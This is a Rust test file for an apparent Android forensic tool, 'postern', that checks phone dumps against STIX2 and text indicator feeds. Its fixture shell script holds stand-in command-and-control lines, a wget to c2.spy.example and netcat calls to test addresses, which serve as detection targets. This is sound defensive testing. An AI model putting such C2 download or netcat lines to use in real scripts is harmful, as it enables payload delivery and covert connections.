//! Feeds of others: `check --iocs`, `knowledge update`.

use std::fs;
use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;

/// A phone with one file, which holds a host in a script and has a hash.
const SCRIPT: &str = "#!/system/bin/sh\nwget http://c2.spy.example/x\n";

/// SHA-1 of it.
const SHA1: &str = "fb797e7615c35b66e5c3265008876aa5d644faa0";

fn postern(folder: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_postern"))
        .args(args)
        .current_dir(folder)
        .env("XDG_DATA_HOME", folder.join("data"))
        .output()
        .unwrap()
}

fn phone(folder: &Path) {
    fs::create_dir_all(folder.join("dump/system/bin")).unwrap();
    fs::write(folder.join("dump/system/build.prop"), "ro.build.version.sdk=29\nsys.brand.note=1\n").unwrap();
    fs::write(folder.join("dump/system/bin/up"), SCRIPT).unwrap();
}

fn report(folder: &Path, args: &[&str]) -> Value {
    let run = postern(folder, &[&["check", "dump", "--json", "r.json"], args].concat());
    let text = fs::read(folder.join("r.json")).unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&run.stderr)));
    serde_json::from_slice(&text).unwrap()
}

/// Grade and claim of what feeds tell.
fn told(report: &Value) -> Vec<(String, String)> {
    let rows = report["findings"].as_array().unwrap();
    let text = |it: &Value| it.as_str().unwrap().to_owned();
    let of_feeds = rows.iter().filter(|it| it["detector"] == "published-indicator");
    of_feeds.map(|it| (text(&it["grade"]), text(&it["claim"]))).collect()
}

#[test]
fn each_kind_of_indicator_is_found_in_bytes_with_feed_id_and_date() {
    let folder = tempfile::tempdir().unwrap();
    let folder = folder.path();
    phone(folder);
    let object = |n: u32, pattern: &str| {
        format!(
            r#"{{"type": "indicator", "id": "indicator--{n}", "pattern": "{pattern}", "valid_from": "2024-12-16T00:00:00Z"}}"#
        )
    };
    let objects = [
        object(1, "[domain-name:value='spy.example']"),
        object(2, &format!("[file:hashes.sha1='{SHA1}']")),
        object(3, "[file:path='/system/bin/up']"),
        object(4, "[android-property:name='sys.brand.note']"),
        object(5, "[url:value='http://c2.spy.example/x']"),
        object(6, "[process:name='up']"),
        object(7, "[domain-name:value='other.example']"),
        object(8, "[configuration-profile:id='x']"),
    ];
    let bundle = format!(r#"{{"type": "bundle", "objects": [{}]}}"#, objects.join(","));
    fs::write(folder.join("spy.stix2"), bundle).unwrap();
    let report = report(folder, &["--iocs", "spy.stix2"]);
    let told = told(&report);
    for n in 1..=6 {
        let id = format!("indicator--{n}");
        assert!(told.iter().any(|it| it.1.contains(&id)), "{id} is not found: {told:#?}");
    }
    assert_eq!(told.len(), 6, "{told:#?}");
    let (grade, claim) = told.iter().find(|it| it.1.contains("indicator--2")).unwrap();
    assert_eq!(grade, "FINDING");
    assert!(claim.contains("spy.stix2") && claim.contains("2024-12-16"), "{claim}");
    assert!(told.iter().filter(|it| it.0 == "FINDING").count() == 1, "names are no finding: {told:#?}");
    let gaps = report["gaps"].as_array().unwrap();
    assert!(gaps.iter().any(|it| it["why"].as_str().unwrap().contains("indicator--8")), "{gaps:#?}");
}

/// A phone with one thing of each kind that a feed can name; the second app is signed.
fn phone_of_each(folder: &Path) {
    fs::create_dir_all(folder.join("dump/system/bin")).unwrap();
    fs::create_dir_all(folder.join("dump/system/app/A")).unwrap();
    fs::write(folder.join("dump/system/build.prop"), "ro.build.version.sdk=29\nsys.brand.note=1\n").unwrap();
    fs::write(folder.join("dump/system/bin/up"), SCRIPT_OF_EACH).unwrap();
    let app = Path::new(env!("CARGO_MANIFEST_DIR")).join("../formats/tests/samples/apk/base.apk");
    fs::copy(app, folder.join("dump/system/app/A/A.apk")).unwrap();
}

/// Has a host below a domain, addresses of both kinds, a page and a mail address.
const SCRIPT_OF_EACH: &str = "#!/system/bin/sh\nwget http://c2.spy.example/x\nnc 192.0.2.7 80\nnc 2001:db8::7 80\n\
                              echo spy@mail.example\n";

/// Every object path that is looked for, with what of it is on that phone.
const EACH: &[(&str, &str)] = &[
    ("domain-name:value", "spy.example"),
    ("url:value", "http://c2.spy.example/x"),
    ("ipv4-addr:value", "192.0.2.7"),
    ("ipv6-addr:value", "2001:DB8:0::7"),
    ("email-addr:value", "spy@mail.example"),
    ("process:name", "up"),
    ("file:name", "up"),
    ("file:path", "/system/bin/up"),
    ("file:hashes.md5", "3437dddec4635aa1c1c6369ac9ad2ec8"),
    ("file:hashes.'SHA-1'", "fd8880ff59d913b82feca2c219fdbe0fde533f37"),
    ("file:hashes.'SHA-256'", "c80beb57e8f5c67c6be9e8aa01de9f940e42347625522facccc6f41f7cc36831"),
    ("app:id", "org.example.postern"),
    ("app:cert.md5", "5D:D4:5B:BB:8E:8B:1F:0C:75:C0:30:D5:AB:AC:93:DB"),
    ("app:cert.sha1", "72AF4707F8B20EFCFBED3167155B9212AB9905D6"),
    ("app:cert.sha256", "fabd9fde2e582868dc6c283c75928bcc12194e12f6e1898f8beae1a0713aee7e"),
    ("android-property:name", "sys.brand.note"),
];

#[test]
fn one_indicator_of_every_path_that_is_supported_is_found_and_one_beside_it_is_not() {
    let folder = tempfile::tempdir().unwrap();
    let folder = folder.path();
    phone_of_each(folder);
    let mut objects = Vec::new();
    for (n, (path, value)) in EACH.iter().enumerate() {
        // The same with its last letter changed is on no phone.
        let mut other = (*value).to_owned();
        let last = if other.pop() == Some('0') { '1' } else { '0' };
        other.push(last);
        for (id, value) in [(format!("indicator--{n}-there"), *value), (format!("indicator--{n}-not"), &*other)] {
            objects.push(serde_json::json!({
                "type": "indicator", "id": id, "valid_from": "2025-01-01", "pattern_type": "stix",
                "pattern": format!("[{path} = '{value}']"),
            }));
        }
    }
    let bundle = serde_json::json!({ "type": "bundle", "objects": objects });
    fs::write(folder.join("each.stix2"), bundle.to_string()).unwrap();
    let report = report(folder, &["--iocs", "each.stix2"]);
    let told = told(&report);
    for (n, (path, _)) in EACH.iter().enumerate() {
        let claim = told.iter().find(|it| it.1.contains(&format!("indicator--{n}-there")));
        let (_, claim) = claim.unwrap_or_else(|| panic!("{path} is not found: {told:#?}"));
        assert!(claim.contains("each.stix2") && claim.contains("2025-01-01"), "{claim}");
    }
    assert!(told.iter().all(|it| it.1.contains("-there")), "{told:#?}");
    assert_eq!(told.len(), EACH.len());
}

#[test]
fn a_feed_that_cannot_be_read_is_said_and_the_others_are_used() {
    let folder = tempfile::tempdir().unwrap();
    let folder = folder.path();
    phone(folder);
    fs::create_dir(folder.join("feeds")).unwrap();
    fs::write(folder.join("feeds/a.stix2"), "{\"type\": \"bundle\",,").unwrap();
    fs::write(folder.join("feeds/b.txt"), "spy.example\nwhat is this\n").unwrap();
    fs::write(folder.join("feeds/README.md"), "words").unwrap();
    let run = postern(folder, &["check", "dump", "--iocs", "feeds", "--json", "r.json"]);
    let said = String::from_utf8(run.stderr).unwrap();
    for part in ["a.stix2: not used: ", "line 1", "b.txt: 1 of 2 are not used; first line 2", "1 files are no feeds"] {
        assert!(said.contains(part), "{part}: {said}");
    }
    let report: Value = serde_json::from_slice(&fs::read(folder.join("r.json")).unwrap()).unwrap();
    assert_eq!(told(&report).len(), 1);
    assert_eq!(postern(folder, &["check", "dump", "--iocs", "nowhere"]).status.code(), Some(2));
}

#[cfg(not(feature = "yara"))]
#[test]
fn a_build_without_the_engine_says_how_to_get_it() {
    let folder = tempfile::tempdir().unwrap();
    let folder = folder.path();
    phone(folder);
    fs::write(folder.join("a.yar"), "rule a { condition: true }").unwrap();
    let run = postern(folder, &["check", "dump", "--yara", "a.yar"]);
    assert_eq!(run.status.code(), Some(2));
    let said = String::from_utf8(run.stderr).unwrap();
    assert!(said.contains("cargo build --release --features yara"), "{said}");
}

#[test]
fn installed_feeds_are_used_until_told_otherwise() {
    let folder = tempfile::tempdir().unwrap();
    let folder = folder.path();
    phone(folder);
    assert!(told(&report(folder, &[])).is_empty());
    fs::create_dir(folder.join("feeds")).unwrap();
    fs::write(folder.join("feeds/b.txt"), "spy.example\n").unwrap();
    let run = postern(folder, &["knowledge", "update", "feeds"]);
    assert!(run.status.success() && folder.join("data/postern/feeds/b.txt").is_file());
    let with = report(folder, &[]);
    assert_eq!(told(&with).len(), 1);
    assert!(with["tool"]["knowledge"].as_str().unwrap().contains("b.txt"), "{}", with["tool"]);
    assert!(told(&report(folder, &["--no-feeds"])).is_empty());
}
